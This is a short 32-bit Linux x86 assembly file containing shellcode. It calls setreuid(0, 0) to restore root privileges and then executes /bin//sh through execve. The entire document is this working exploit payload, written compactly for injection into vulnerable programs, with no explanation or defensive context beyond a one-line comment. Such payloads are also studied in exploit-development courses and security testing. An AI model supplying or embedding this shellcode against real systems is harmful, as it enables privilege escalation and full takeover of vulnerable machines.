; Linux, 32 bit: setreuid(0, 0), then a shell: a payload of its own, not linux_execve with a parameter.
bits 32
        xor ebx, ebx
        xor ecx, ecx
        push byte 70
        pop eax
        int 80h
        xor eax, eax
        push eax
        push dword '//sh'
        push dword '/bin'
        mov ebx, esp
        push eax
        push ebx
        mov ecx, esp
        cdq
        mov al, 11
        int 80h
